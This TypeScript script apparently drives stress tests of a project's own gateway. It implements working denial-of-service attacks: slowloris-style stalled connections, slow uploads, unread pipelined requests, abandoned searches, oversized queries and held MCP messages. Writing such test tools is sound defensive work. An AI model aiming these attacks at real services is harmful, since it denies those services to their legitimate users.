/**
 * Callers who harm others if they can: `node attackers.ts KIND URL COUNT`. Sends the message 0 when
 * all have begun, then goes on until it is terminated.
 */
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** More at once could overflow the kernel's accept queue. */
const CONNECT_BATCH = 100;
const SECOND_MS = 1000;
/** Uploads are spread over the second in this many steps. */
const STEPS = 20;
const QUESTION_BYTES = 15 * 2 ** 20;
const MESSAGE_BYTES = 4 * 2 ** 20;
const PIPELINED = 20;

const [kind = '', address = '', count = '0'] = process.argv.slice(2);
const url = new URL(address);
const COUNT = Number(count);

/** Each has addresses of its own to connect from, since one has 28,000 ports only. */
const KINDS = ['streams', 'uploads', 'pipelines', 'searches', 'questions', 'messages'];
const localAddress = `127.0.1.${KINDS.indexOf(kind) + 1}`;

const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  streams: () => stall(head('GET', '/api/events')),
  uploads: uploadSlowly,
  pipelines: () => stall(head('GET', '/api/garden').repeat(PIPELINED)),
  searches: abandonSearches,
  questions: askLongQuestions,
  messages: holdMessages,
};
await attacks[kind]?.();

function head(method: string, path: string, more = ''): string {
  return `${method} ${path} HTTP/1.1\r\nHost: ${url.host}\r\n${more}\r\n`;
}

/** A connection whose answer is never read, unless it is resumed. */
async function open(request: string): Promise<Socket> {
  const socket = connect({ port: Number(url.port), host: url.hostname, localAddress });
  // A socket that the gateway closes is its answer to an attack, no error of this process.
  socket.on('error', () => undefined);
  socket.pause();
  await once(socket, 'connect');
  socket.write(request);
  return socket;
}

async function openAll(request: string): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let left = COUNT; left > 0; left -= CONNECT_BATCH) {
    const size = Math.min(CONNECT_BATCH, left);
    sockets.push(...(await Promise.all(Array.from({ length: size }, () => open(request)))));
  }
  process.send?.(0);
  return sockets;
}

/** Never reads an answer. */
async function stall(request: string): Promise<void> {
  const sockets = await openAll(request);
  // Paused sockets alone do not keep a process running.
  for (;;) {
    await sleep(60 * SECOND_MS);
    if (sockets.every(({ destroyed }) => destroyed)) throw new Error('All sockets were closed.');
  }
}

/** A byte a second from each. */
async function uploadSlowly(): Promise<void> {
  const length = 'Content-Type: application/json\r\nContent-Length: 100000000\r\n';
  const sockets = await openAll(`${head('POST', '/api/garden', length)}{"text":"`);
  for (let step = 0; ; step = (step + 1) % STEPS) {
    for (let at = step; at < sockets.length; at += STEPS) sockets[at]?.write('.');
    await sleep(SECOND_MS / STEPS);
  }
}

/** This many searches a second, each abandoned before it can be answered. */
async function abandonSearches(): Promise<void> {
  process.send?.(0);
  for (;;) {
    const socket = await open(head('GET', '/api/search?q=a*'));
    socket.destroy();
    await sleep(SECOND_MS / COUNT);
  }
}

/** One after another, each of words that all differ. */
async function askLongQuestions(): Promise<void> {
  process.send?.(0);
  for (let first = 0; ; first += 1) {
    let words = '';
    for (let number = first; words.length < QUESTION_BYTES; number += 1) words += `w${number}+`;
    const socket = await open(head('GET', `/api/search?q=${words}`, 'Connection: close\r\n'));
    socket.resume();
    await once(socket, 'close');
  }
}

/** All but the last byte, which never comes; begun anew each half minute. */
async function holdMessages(): Promise<void> {
  const text = 'x'.repeat(MESSAGE_BYTES);
  const call = { name: 'leave_trace', arguments: { text } };
  const message = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: call });
  const headers = `Content-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: ${message.length}\r\n`;
  const request = head('POST', '/mcp', headers) + message.slice(0, -1);
  for (;;) {
    const sockets = await openAll(request);
    await sleep(30 * SECOND_MS);
    for (const socket of sockets) socket.destroy();
  }
}
